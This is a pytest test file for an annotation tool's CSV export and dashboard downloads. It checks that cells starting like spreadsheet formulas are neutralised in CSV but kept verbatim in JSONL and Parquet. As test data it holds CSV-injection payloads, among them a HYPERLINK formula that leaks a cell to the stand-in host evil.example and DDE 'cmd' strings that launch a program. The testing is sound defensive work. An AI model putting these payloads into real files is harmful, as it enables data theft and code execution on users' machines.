"""CSV injection: text cells that start like a spreadsheet formula are neutralised in every
CSV SafeLabel writes (exports and each dashboard download), and only there."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pandas as pd
import pytest
import streamlit.testing.v1.app_test as app_test_module
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from core.csv_safety import neutralise_cell, neutralise_frame, neutralise_sql
from core.labels import Label
from store import projects, work
from store.exports import export
from store.imports import import_file
from tests.conftest import make_project
from tests.helpers import as_user, by_label, write_jsonl

# The hostile starts named by the finding (OWASP's list), each a real attack shape.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def expected_csv_cell(text: str) -> str:
    """The test's own statement of OWASP's rule, independent of core/csv_safety.py."""
    return "'" + text if text[:1] in DANGEROUS else text


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula_cells(text: str) -> int:
    """Every cell of the CSV is inert; returns how many cells were read (so callers can
    check that there was something to look at)."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert cells
    bad = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert not bad, bad
    return len(cells)


# -- the rule itself ------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("plain text", "plain text"), (" =1+1", " =1+1"), ("a=1", "a=1"), ("", ""),
    ("'=already", "'=already"), ("[=1]", "[=1]"),
    (-3, -3), (2.5, 2.5), (None, None), (True, True)])
def test_neutralise_cell_prefixes_text_that_starts_like_a_formula(value, expected):
    assert neutralise_cell(value) == expected


def test_the_sql_form_agrees_with_the_python_rule():
    values = [*HOSTILE, "plain", "", " =x", "x=1", None]
    con = duckdb.connect()
    got = [r[0] for r in con.execute(
        f"SELECT {neutralise_sql('v')} FROM unnest(?) WITH ORDINALITY AS t(v, n) ORDER BY n",
        [values]).fetchall()]
    assert got == [neutralise_cell(v) for v in values]
    assert got[0] == "'" + HOSTILE[0] and got[-1] is None


def test_a_frame_keeps_numbers_and_dates_and_neutralises_text():
    df = pd.DataFrame({"project": ["=evil()", "fine"], "score": [-3, 2], "rate": [-0.5, 1.0],
                       "day": pd.to_datetime(["2026-01-01", "2026-01-02"]),
                       "note": pd.Series(["-x", None], dtype="str")})
    rows = csv_rows(neutralise_frame(df).to_csv(index=False))
    assert [r["project"] for r in rows] == ["'=evil()", "fine"]
    assert [r["score"] for r in rows] == ["-3", "2"] and rows[0]["rate"] == "-0.5"
    assert [r["note"] for r in rows] == ["'-x", ""]
    assert rows[0]["day"] == "2026-01-01"
    assert df["project"].tolist() == ["=evil()", "fine"]      # the shown table is untouched


# -- exports --------------------------------------------------------------------------------

@pytest.fixture
def hostile_labels(db, accounts, tmp_path):
    """A label project whose items and notes start with each hostile character, plus one
    plain item as the positive control."""
    pid = make_project(db, accounts, name="Hostile", members=("ann1",))
    rows = [{"id": f"h{n}", "prompt": text, "response": HOSTILE[(n + 1) % len(HOSTILE)]}
            for n, text in enumerate(HOSTILE)]
    rows.append({"id": "plain", "prompt": "a plain prompt", "response": "a plain -3 answer"})
    import_file(db, accounts["lead"], pid, write_jsonl(tmp_path / "hostile.jsonl", rows))
    notes = {}
    while (item := work.claim_next_item(db, accounts["ann1"], pid)) is not None:
        note = "fine note" if item.external_id == "plain" else HOSTILE[int(item.external_id[1:])]
        notes[item.external_id] = note
        work.save_annotation(db, accounts["ann1"], item.id, Label(False, ("S1",), 3, note))
    texts = {r["id"]: r for r in rows}
    for ext, note in notes.items():
        texts[ext]["note"] = note
    return pid, texts


def read_export(path: Path, fmt: str) -> tuple[list[dict], str]:
    if fmt == "csv":
        text = path.read_bytes().decode("utf-8")      # a carriage return in a cell stays one
        return csv_rows(text), text
    if fmt == "jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()], ""
    frame = duckdb.connect().execute(f"SELECT * FROM '{path}'").df()
    return frame.to_dict("records"), ""


def as_trl_text(field: str, text: str) -> str:
    """How TRL's standard format writes an item's text (see store/exports.py): the prompt
    as an HH dialogue ending with the assistant marker, the answer after a space."""
    return f"\n\nHuman: {text}\n\nAssistant:" if field == "prompt" else " " + text


# (export kind, text columns to check, how the exported text is made from the item's)
LABEL_KINDS = [("annotations", {"note": "note"}, None),
               ("items", {"prompt": "prompt", "response": "response"}, None),
               ("trl_unpaired", {"prompt": "prompt", "completion": "response"}, as_trl_text)]


@pytest.mark.parametrize("kind, columns, shape", LABEL_KINDS)
@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_csv_exports_neutralise_formulas_and_other_formats_keep_the_text(
        db, accounts, hostile_labels, tmp_path, kind, columns, shape, fmt):
    pid, texts = hostile_labels
    out = tmp_path / f"{kind}.{fmt}"
    assert export(db, accounts["lead"], pid, kind, out, fmt) == len(texts)
    rows, raw = read_export(out, fmt)
    assert len(rows) == len(texts)
    sources = [texts[r["external_id"]] for r in rows]
    checked_hostile = 0
    for row, source in zip(rows, sources):
        for column, field in columns.items():
            original = shape(field, source[field]) if shape else source[field]
            if fmt == "csv":
                assert row[column] == expected_csv_cell(original), (column, original)
            else:
                assert row[column] == original, (column, original)   # exactly as stored
            checked_hostile += source[field][:1] in DANGEROUS
    assert checked_hostile >= len(HOSTILE)        # every hostile start was seen
    if fmt == "csv":
        assert_no_formula_cells(raw)
        # Numbers stay numbers: the severity column is written as 3, not '3.
        if kind == "annotations":
            assert {r["severity"] for r in rows} == {"3"}
            assert [int(r["annotation_id"]) for r in rows] == sorted(
                int(r["annotation_id"]) for r in rows)       # order kept through the wrapper


def test_compare_exports_neutralise_both_responses_in_csv_only(db, accounts, tmp_path):
    pid = make_project(db, accounts, kind="compare", name="Pairs", members=("ann1",))
    import_file(db, accounts["lead"], pid, write_jsonl(tmp_path / "pairs.jsonl", [
        {"id": "p1", "prompt": "-p", "response_a": "=A()", "response_b": "@B"},
        {"id": "p2", "prompt": "plain", "response_a": "fine a", "response_b": "fine b"}]))
    while (item := work.claim_next_item(db, accounts["ann1"], pid)) is not None:
        work.save_annotation(db, accounts["ann1"], item.id, judgment={
            "left": "a", "harmlessness": 3, "helpfulness": -1, "overall": "a", "rationale": "+r"})
    csv_out, jsonl_out = tmp_path / "pairs.csv", tmp_path / "pairs.jsonl"
    export(db, accounts["lead"], pid, "trl_preference", csv_out, "csv", margin=True)
    export(db, accounts["lead"], pid, "trl_preference", jsonl_out, "jsonl", margin=True)
    text = csv_out.read_bytes().decode("utf-8")
    assert_no_formula_cells(text)
    rows = csv_rows(text)
    # TRL's standard text starts the prompt with a blank line and the answers with a space:
    # no cell begins like a formula, so the CSV keeps the text as the JSONL does.
    expected = [(as_trl_text("prompt", p), as_trl_text("chosen", a), as_trl_text("rejected", b))
                for p, a, b in (("-p", "=A()", "@B"), ("plain", "fine a", "fine b"))]
    assert [(r["prompt"], r["chosen"], r["rejected"], r["margin"]) for r in rows] == [
        (*e, "3") for e in expected]
    plain = [json.loads(line) for line in jsonl_out.read_text(encoding="utf-8").splitlines()]
    assert [(r["prompt"], r["chosen"], r["rejected"]) for r in plain] == expected
    assert [r["external_id"] for r in rows] == ["p1", "p2"]
    items_csv = tmp_path / "items.csv"
    export(db, accounts["lead"], pid, "items", items_csv, "csv")
    items = csv_rows(items_csv.read_bytes().decode("utf-8"))
    assert [(r["response_a"], r["response_b"]) for r in items] == [("'=A()", "'@B"),
                                                                    ("fine a", "fine b")]


# -- downloads on the pages -----------------------------------------------------------------

@pytest.fixture
def media(monkeypatch) -> list[MemoryMediaFileStorage]:
    """The in-memory file stores of AppTest runs (the last one holds the last run's
    downloads), so a test can read what a download button would send."""
    stores: list[MemoryMediaFileStorage] = []

    class Recording(MemoryMediaFileStorage):
        def __init__(self, endpoint: str) -> None:
            super().__init__(endpoint)
            stores.append(self)

    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", Recording)
    return stores


def download_text(stores: list[MemoryMediaFileStorage], button) -> str:
    url = button.proto.url
    assert url, f"download {button.key or button.label} has no file"
    return stores[-1].get_file(url.rsplit("/", 1)[-1]).content.decode("utf-8")


def test_export_page_csv_download_is_neutralised_and_jsonl_is_not(app_db, team, tmp_path, media):
    pid = projects.create_project(app_db, team["lead"], "Exp", "label", "", None, 1, [team["ann"]])
    import_file(app_db, team["lead"], pid, write_jsonl(tmp_path / "e.jsonl", [
        {"id": "e1", "prompt": HOSTILE[0], "response": "-rm"},
        {"id": "e2", "prompt": "plain", "response": "fine"}]))
    while (item := work.claim_next_item(app_db, team["ann"], pid)) is not None:
        work.save_annotation(app_db, team["ann"], item.id, Label(True, (), 0))
    at = as_user(app_db, "lead").run()
    at.switch_page("app_pages/export.py").run()
    by_label(at.radio, "What").set_value("items")
    for fmt in ("csv", "jsonl"):
        by_label(at.radio, "Format").set_value(fmt)
        at = by_label(at.button, "Prepare the export").click().run()
        assert not at.exception and not at.error, [e.value for e in at.error]
        (button,) = at.download_button
        text = download_text(media, button)
        if fmt == "csv":
            assert_no_formula_cells(text)
            rows = csv_rows(text)
            assert [(r["prompt"], r["response"]) for r in rows] == [("'" + HOSTILE[0], "'-rm"),
                                                                    ("plain", "fine")]
        else:
            rows = [json.loads(line) for line in text.splitlines()]
            assert [(r["prompt"], r["response"]) for r in rows] == [(HOSTILE[0], "-rm"),
                                                                    ("plain", "fine")]


HOSTILE_PROJECT = '=HYPERLINK("http://evil.example","Pilot")'
HOSTILE_CATEGORY = "@SUM(1+1)"
# No "," ";" or "|": those separate the categories of one hint (core/wellness.py), and the
# dashboard counts each part; the whole string must reach the table to be checked there.
HOSTILE_HINT = "-2+3+cmd' /C calc'!A0"
HOSTILE_TAXONOMY = json.dumps({
    "categories": [{"code": HOSTILE_CATEGORY, "name": "Evil", "description": "a formula code"}],
    "severity": [{"level": n, "name": f"level {n}", "description": ""} for n in range(5)]})


def seed_hostile_dashboard(db, team: dict[str, int], tmp_path) -> None:
    """Every panel's data, with a hostile project name, taxonomy code and hint category."""
    from tests.test_dashboard import seed_every_panel
    seed_every_panel(db, team, tmp_path)
    pid = projects.create_project(db, team["lead"], HOSTILE_PROJECT, "label", "",
                                  HOSTILE_TAXONOMY, 1, [team["ann1"], team["ann2"], team["ann3"]])
    import_file(db, team["lead"], pid, write_jsonl(tmp_path / "hostile.jsonl", [
        {"id": f"x{n}", "prompt": f"prompt {n}", "response": f"response {n}",
         "hint_category": HOSTILE_HINT, "hint_severity": 1} for n in range(6)]))
    for name in ("ann1", "ann2", "ann3"):
        item = work.claim_next_item(db, team[name], pid)
        work.save_annotation(db, team[name], item.id, Label(False, (HOSTILE_CATEGORY,), 2),
                             active_ms=4_000)
        item = work.claim_next_item(db, team[name], pid)
        work.skip_item(db, team[name], item.id, active_ms=1_000)


def tables_and_downloads(at) -> list[tuple[pd.DataFrame, object]]:
    """Each download button with the table drawn just before it (page order): a read-only
    table has no key to match it by."""
    def walk(node):
        if getattr(node, "type", None) in ("dataframe", "download_button"):
            yield node
        children = getattr(node, "children", {})
        for index in sorted(children):
            yield from walk(children[index])

    pairs, table = [], None
    for node in walk(at._tree):
        if node.type == "dataframe":
            table = node.value
        else:
            assert table is not None, node.key
            pairs.append((table, node))
            table = None
    return pairs


@pytest.mark.parametrize("viewer", ["lead", "ann1"])
def test_every_dashboard_csv_download_neutralises_hostile_text(app_db, tmp_path, media, viewer):
    from tests.test_dashboard import make_team, open_dashboard
    team = make_team(app_db)
    seed_hostile_dashboard(app_db, team, tmp_path)
    at = open_dashboard(app_db, viewer)
    pairs = tables_and_downloads(at)
    assert len(pairs) == len(at.download_button) >= 13
    neutralised_in = set()
    for shown, button in pairs:
        text = download_text(media, button)
        assert_no_formula_cells(text)
        rows = csv_rows(text)
        assert len(rows) == len(shown)
        for column in shown.columns:
            values = shown[column]
            if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
                continue
            for cell, value in zip((r[column] for r in rows), values):
                if isinstance(value, str):
                    assert cell == expected_csv_cell(value), (button.key, column)
                    if value in (HOSTILE_PROJECT, HOSTILE_CATEGORY, HOSTILE_HINT):
                        neutralised_in.add(button.key)
    # The hostile strings reach these tables (the screen shows them as typed) and their CSVs.
    expected = {"csv_progress", "csv_items_per_day", "csv_verdicts", "csv_categories",
                "csv_severities", "csv_skip_rate"}
    assert expected <= neutralised_in, expected - neutralised_in
